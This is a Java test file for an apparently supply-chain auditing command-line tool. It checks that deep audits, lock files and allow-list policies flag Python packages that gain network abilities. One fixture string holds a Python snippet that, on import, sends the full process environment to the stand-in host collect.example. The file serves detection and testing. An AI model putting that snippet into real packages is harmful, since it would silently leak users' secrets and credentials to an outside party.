package dev.assay.cli.command;

import static dev.assay.cli.LoopbackIndex.zip;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.cli.LoopbackIndex;
import dev.assay.cli.Run;
import dev.assay.core.document.Documents;
import dev.assay.core.document.Node;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// `audit --deep`, `lock` and `audit --locked`.
class CodeReadingTest {
  private static final String HARMLESS = "def add(left, right):\n    return left + right\n";
  private static final String CALLS =
      """
      import urllib.request
      def ask(name):
          return urllib.request.urlopen("https://api.acme.example/v1/" + name).read()
      """;
  private static final String THEFT =
      """
      import os, urllib.request
      urllib.request.urlopen("https://collect.example/in", str(dict(os.environ)).encode())
      """;

  @TempDir private Path home;
  @TempDir private Path folder;
  private LoopbackIndex index;

  @BeforeEach
  void start() throws IOException {
    index = new LoopbackIndex();
  }

  @AfterEach
  void stop() {
    index.close();
  }

  @Test
  void findingsOnInstalledCodeStandInTheDossier() throws IOException {
    install("acme", "1.0", THEFT);
    install("other", "2.0", HARMLESS);
    Run run = run("audit", "--offline", "--deep", "--format", "json", "site-packages");
    assertThat(run.code()).as(run.err()).isEqualTo(1);
    Node acme = dependency(run, "acme");
    assertThat(acme.at("dossier", "verdict").flatMap(Node::asText)).contains("deny");
    assertThat(texts(acme.at("dossier").orElseThrow(), "abilities"))
        .contains("import: sends collect.example environment");
    Node other = dependency(run, "other").at("dossier").orElseThrow();
    assertThat(other.text("verdict")).contains("admit");
    assertThat(texts(other, "abilities")).isEmpty();
    assertThat(run.out()).contains("\"file\": \"site-packages/acme/__init__.py\"");
    assertThat(run("audit", "--offline", "--format", "json", "site-packages").out())
        .contains("\"abilities\": null")
        .doesNotContain("environment-exfiltration");
  }

  @ParameterizedTest
  @ValueSource(strings = {"text", "json", "sarif", "html", "cyclonedx", "markdown"})
  void everyReportTellsThem(String format) throws IOException {
    install("acme", "1.0", THEFT);
    Run run = run("audit", "--offline", "--deep", "--format", format, "site-packages");
    assertThat(run.code()).isEqualTo(1);
    assertThat(run.out()).contains("acme", "collect.example");
  }

  @Test
  void anAllowEntryLetsThemPassByTheirPathInThePackage() throws IOException {
    install("acme", "1.0", THEFT);
    StringBuilder policy = new StringBuilder();
    for (String rule : List.of("environment-exfiltration", "import-time-network")) {
      policy.append(
          """
          [[allow]]
          rule = "%s"
          package = "acme"
          path = "acme/*.py"
          reason = "an exercise"
          owner = "red team"
          expires = 2026-12-31
          """
              .formatted(rule));
    }
    write("assay.toml", policy.toString());
    Run run = run("audit", "--offline", "--deep", "--policy", "assay.toml", "site-packages");
    assertThat(run.code()).as(run.out()).isZero();
    write("assay.toml", policy.toString().replace("acme/*.py", "tests/*.py"));
    assertThat(
            run("audit", "--offline", "--deep", "--policy", "assay.toml", "site-packages").code())
        .isEqualTo(1);
  }

  @Test
  void wheelsAreReadTooAndFoundAgainInTheCache() throws IOException {
    wheel("dist/acme-1.0-py3-none-any.whl", "1.0", THEFT);
    Run first = run("audit", "--offline", "--deep", "--format", "json", "dist");
    assertThat(first.code()).isEqualTo(1);
    List<Path> cached = cached();
    assertThat(cached).hasSize(1);
    assertThat(run("audit", "--offline", "--deep", "--format", "json", "dist").out())
        .isEqualTo(first.out());
    byte[] bytes = Files.readAllBytes(cached.getFirst());
    bytes[bytes.length / 2] ^= 1;
    Files.write(cached.getFirst(), bytes);
    assertThat(run("audit", "--offline", "--deep", "--format", "json", "dist").out())
        .isEqualTo(first.out());
  }

  @Test
  void pinsAreFetchedOnlyWhenAskedFor() throws IOException {
    write("requirements.txt", "acme==1.0\n");
    index.publish("acme", "acme-1.0-py3-none-any.whl", wheel("1.0", THEFT));
    Run here = run("audit", "--offline", "--deep", "requirements.txt");
    assertThat(here.code()).isEqualTo(3);
    assertThat(here.out()).contains("the code of 1 dependency");
    assertThat(index.asked()).isEmpty();
    Run fetched = run("audit", "--offline", "--deep", "--fetch", "requirements.txt");
    assertThat(fetched.code()).isEqualTo(1);
    assertThat(fetched.out()).contains("environment-exfiltration");
    assertThat(run("audit", "--offline", "--fetch", "requirements.txt").code()).isEqualTo(2);
  }

  @Test
  void whatCannotBeFetchedIsNamed() throws IOException {
    write("requirements.txt", "absent==1.0\n");
    Run run = run("audit", "--offline", "--deep", "--fetch", "requirements.txt");
    assertThat(run.code()).isEqualTo(3);
    assertThat(run.out()).contains("pypi:absent==1.0", "there is no such project on the index");
  }

  @Test
  void theLockIsSortedTextAndHeldByTheAudit() throws IOException {
    install("acme", "1.0", CALLS);
    install("other", "2.0", HARMLESS);
    assertThat(run("lock", "site-packages").code()).isZero();
    String lock = Files.readString(folder.resolve("assay.lock"));
    assertThat(lock)
        .contains("name = \"acme\"", "\"call: receives api.acme.example\"", "acts = []")
        .doesNotContain(folder.toString());
    assertThat(run("lock", "--check", "site-packages").out())
        .isEqualTo("nothing gains an ability\n");
    assertThat(locked().code()).isZero();
    install("acme", "1.1", CALLS.replace("v1", "v2"));
    assertThat(locked().code()).isZero();
    install("acme", "1.1", CALLS + THEFT);
    Run gained = locked();
    assertThat(gained.code()).isEqualTo(1);
    assertThat(gained.out())
        .contains("(unlocked-ability)", "import: sends collect.example environment");
    Run check = run("lock", "--check", "site-packages");
    assertThat(check.code()).isEqualTo(1);
    assertThat(check.out()).contains("acme 1.1 gains import: sends collect.example environment");
  }

  @Test
  void bytesThatTheLockKnowsNeverFail() throws IOException {
    install("acme", "1.0", THEFT);
    assertThat(run("lock", "site-packages").code()).isZero();
    String lock = Files.readString(folder.resolve("assay.lock"));
    String emptied = lock.replaceAll("(?s)acts = \\[.*?\\n\\]", "acts = []");
    Files.writeString(folder.resolve("assay.lock"), emptied);
    assertThat(run("lock", "--check", "site-packages").code()).isZero();
  }

  @Test
  void aNewDependencyIsHeldForWhatItCanDo() throws IOException {
    install("other", "2.0", HARMLESS);
    run("lock", "site-packages");
    install("acme", "1.0", CALLS);
    Run run = run("lock", "--check", "site-packages");
    assertThat(run.code()).isEqualTo(1);
    assertThat(run.out()).contains("acme 1.0 is not in the lock", "acme 1.0 gains call: receives");
  }

  @Test
  void aLockThatIsMissingOrBrokenDecidesNothing() throws IOException {
    install("acme", "1.0", CALLS);
    assertThat(run("lock", "--check", "site-packages").code()).isEqualTo(3);
    write("assay.lock", "schema = \"assay/lock/1\"\n[[artifact]]\nname = 'acme'\n");
    Run run = run("audit", "--offline", "--lock", "assay.lock", "site-packages");
    assertThat(run.code()).isEqualTo(3);
    assertThat(run.err()).contains("assay.lock:2: an artifact needs");
  }

  @Test
  void pinsAreLockedThroughTheIndex() throws IOException {
    write("requirements.txt", "acme==1.0\nabsent==1.0\n");
    index.publish("acme", "acme-1.0-py3-none-any.whl", wheel("1.0", CALLS));
    Run run = run("lock", "--fetch", "requirements.txt");
    assertThat(run.code()).isEqualTo(3);
    assertThat(run.err()).contains("pypi:absent==1.0", "1 artifacts in `assay.lock`");
    assertThat(Files.readString(folder.resolve("assay.lock")))
        .contains("file = \"acme-1.0-py3-none-any.whl\"", "call: receives api.acme.example");
  }

  private Run locked() {
    return run("audit", "--offline", "--lock", "assay.lock", "site-packages");
  }

  private List<Path> cached() throws IOException {
    try (Stream<Path> files = Files.list(home.resolve("cache/assay/facts"))) {
      return files.toList();
    }
  }

  private Run run(String... arguments) {
    return Run.in(folder, home, index.environment(), arguments);
  }

  private static Node dependency(Run run, String name) {
    Node root = ((Documents.Reading.Parsed) Documents.json(run.out().getBytes(UTF_8))).root();
    return root.array("dependencies").stream()
        .filter(it -> it.text("name").orElseThrow().equals(name))
        .findFirst()
        .orElseThrow();
  }

  private static List<String> texts(Node node, String name) {
    return node.array(name).stream().map(it -> it.asText().orElseThrow()).toList();
  }

  private void install(String name, String version, String code) throws IOException {
    String info = "site-packages/" + name + ".dist-info/";
    write("site-packages/" + name + "/__init__.py", code);
    write(info + "METADATA", "Name: %s\nVersion: %s\n".formatted(name, version));
    write(info + "RECORD", "%s/__init__.py,,\n%s.dist-info/METADATA,,\n".formatted(name, name));
  }

  private static byte[] wheel(String version, String code) throws IOException {
    String metadata = "Metadata-Version: 2.1\nName: acme\nVersion: " + version + "\n";
    return zip(
        Map.of("acme/__init__.py", code, "acme-" + version + ".dist-info/METADATA", metadata));
  }

  private void wheel(String path, String version, String code) throws IOException {
    Path file = folder.resolve(path);
    Files.createDirectories(file.getParent());
    Files.write(file, wheel(version, code));
  }

  private void write(String name, String text) throws IOException {
    Path file = folder.resolve(name);
    Files.createDirectories(file.getParent());
    Files.writeString(file, text);
  }
}
